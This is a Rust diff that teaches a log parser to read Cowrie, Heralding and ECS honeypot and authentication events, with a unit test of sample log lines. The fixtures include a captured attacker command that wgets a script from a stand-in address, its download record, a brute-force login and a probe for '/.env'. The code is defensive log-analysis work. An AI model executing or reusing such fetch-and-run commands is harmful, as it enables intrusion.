@@ -44,6 +44,8 @@ const MAPPED_FIELDS: &[&str] = &[
     "eventid",
     "session",
     "sensor",
+    "source_ip",
+    "num_auth_attempts",
     "time",
     "ts",
     "timestamp",
@@ -145,7 +147,12 @@ impl JsonLinesParser {
 
 fn event_of(object: &Value) -> Result<Event<'_>, RejectReason> {
     let field = |names: &[&str]| names.iter().find_map(|name| lookup(object, name));
-    let text = |names: &[&str]| field(names).and_then(as_text);
+    // The first of `names` that holds text (ECS nests `user.name` where others write `user`).
+    let text = |names: &[&str]| {
+        names
+            .iter()
+            .find_map(|name| lookup(object, name).and_then(as_text))
+    };
     let time = field(&[
         "time",
         "ts",
@@ -195,6 +202,7 @@ fn event_of(object: &Value) -> Result<Event<'_>, RejectReason> {
         "request.remote_ip",
         "src_ip",
         "source.ip",
+        "source_ip",
         "client.ip",
         "source.address",
         "client.address",
@@ -203,6 +211,11 @@ fn event_of(object: &Value) -> Result<Event<'_>, RejectReason> {
     if let Some(event_id) = text(&["eventid"]).filter(|id| id.starts_with("cowrie.")) {
         return Ok(Event::Syslog(honeypot_event(
             object, event_id, time, client,
+        )));
+    }
+    if let Some(attempts) = field(&["num_auth_attempts"]).and_then(as_u64) {
+        return Ok(Event::Syslog(honeypot_session(
+            object, attempts, time, client,
         )));
     }
 
@@ -310,6 +323,42 @@ fn honeypot_event<'v>(
     }
 }
 
+/// A Heralding honeypot session (one object per connection, its login attempts nested):
+/// a failed login told as many times as it tried, or a probe when it tried none.
+fn honeypot_session<'v>(
+    object: &'v Value,
+    attempts: u64,
+    time: LogTime,
+    client: Option<&'v str>,
+) -> SyslogRecord<'v> {
+    let text = |name: &str| lookup(object, name).and_then(as_text);
+    let auth = if attempts > 0 {
+        AuthAttempt {
+            source: client,
+            times: u32::try_from(attempts).unwrap_or(u32::MAX),
+            password: text("auth_attempts.password"),
+            ..AuthAttempt::new(AuthOutcome::Failed, text("auth_attempts.username"))
+        }
+    } else {
+        AuthAttempt {
+            source: client,
+            ..AuthAttempt::new(AuthOutcome::Probe, None)
+        }
+    };
+    SyslogRecord {
+        time,
+        host: text("destination_ip").unwrap_or("-"),
+        program: "heralding",
+        pid: text("session_id"),
+        severity: None,
+        message: text("protocol").unwrap_or("session"),
+        auth: Some(auth),
+        client,
+        request: None,
+        action: None,
+    }
+}
+
 /// An ECS authentication event (`event.category: authentication`, `event.outcome`).
 fn ecs_login<'v>(
     object: &'v Value,
@@ -386,6 +435,12 @@ fn as_time(value: &Value) -> Option<LogTime> {
         let text = text.trim();
         return LogTime::parse_rfc3339(text)
             .or_else(|| LogTime::parse_rfc3339(&format!("{text}Z")))
+            // `2022-06-02 05:12:18.560336` (Python's str() of a datetime): a T for the space.
+            .or_else(|| {
+                let (date, clock) = text.split_at_checked(10)?;
+                let clock = clock.strip_prefix(' ')?;
+                LogTime::parse_rfc3339(&format!("{date}T{clock}Z"))
+            })
             .or_else(|| parse_clf_time(text.trim_start_matches('[').trim_end_matches(']')))
             .or_else(|| text.parse::<f64>().ok().and_then(epoch));
     }
@@ -475,6 +530,79 @@ mod tests {
             (r.program, r.severity, r.message),
             ("payments", Some(3), "card declined for order 1234")
         );
+    }
+
+    /// What a security event says: the client, the login's outcome, user and password,
+    /// and what was done in the session.
+    fn security(line: &str) -> (&'static str, String) {
+        let mut parser = JsonLinesParser::default();
+        match parser.parse(line) {
+            Ok(Event::Syslog(r)) => (
+                "message",
+                format!(
+                    "{:?} {:?} {:?} {:?} {:?}",
+                    r.client,
+                    r.auth.map(|a| a.outcome),
+                    r.auth.and_then(|a| a.user),
+                    r.auth.map(|a| a.times),
+                    r.action
+                ),
+            ),
+            Ok(Event::Access(r)) => (
+                "request",
+                format!("{} {:?} {} {:?}", r.client, r.method, r.status, r.user),
+            ),
+            other => ("other", format!("{other:?}")),
+        }
+    }
+
+    #[test]
+    fn issue_22_honeypot_and_ecs_events_are_understood_by_meaning() {
+        let cases = [
+            (
+                r#"{"eventid":"cowrie.login.failed","username":"root","password":"1234","message":"login attempt [root/1234] failed","sensor":"hp1","timestamp":"2022-06-01T14:35:02.1Z","src_ip":"203.0.113.5","session":"a1"}"#,
+                (
+                    "message",
+                    r#"Some("203.0.113.5") Some(Failed) Some("root") Some(1) None"#,
+                ),
+            ),
+            (
+                r#"{"eventid":"cowrie.command.input","input":"wget http://198.51.100.7/x.sh","message":"CMD: wget","timestamp":"2022-06-01T14:35:09Z","src_ip":"203.0.113.5","session":"a1"}"#,
+                (
+                    "message",
+                    r#"Some("203.0.113.5") None None None Some(Command("wget http://198.51.100.7/x.sh"))"#,
+                ),
+            ),
+            (
+                r#"{"eventid":"cowrie.session.file_download","url":"http://198.51.100.7/x.sh","timestamp":"2022-06-01T14:35:10Z","src_ip":"203.0.113.5","session":"a1"}"#,
+                (
+                    "message",
+                    r#"Some("203.0.113.5") None None None Some(Download("http://198.51.100.7/x.sh"))"#,
+                ),
+            ),
+            (
+                r#"{"@timestamp":"2024-03-11T10:00:00Z","event":{"category":["authentication"],"outcome":"failure"},"source":{"ip":"192.0.2.9"},"user":{"name":"admin"},"message":"login failed"}"#,
+                (
+                    "message",
+                    r#"Some("192.0.2.9") Some(Failed) Some("admin") Some(1) None"#,
+                ),
+            ),
+            (
+                r#"{"@timestamp":"2024-03-11T10:00:00Z","source.ip":"192.0.2.9","url.original":"/.env","http.request.method":"GET","http.response.status_code":404}"#,
+                ("request", r#"192.0.2.9 Some("GET") 404 None"#),
+            ),
+            (
+                r#"{"timestamp": "2022-06-02 05:12:18.560336", "session_id": "s1", "source_ip": "112.6.118.70", "protocol": "vnc", "num_auth_attempts": 3, "auth_attempts": [{"password": "x"}]}"#,
+                (
+                    "message",
+                    r#"Some("112.6.118.70") Some(Failed) None Some(3) None"#,
+                ),
+            ),
+        ];
+        for (line, (shape, said)) in cases {
+            let (got_shape, got) = security(line);
+            assert_eq!((got_shape, got.as_str()), (shape, said), "{line}");
+        }
     }
 
     #[test]
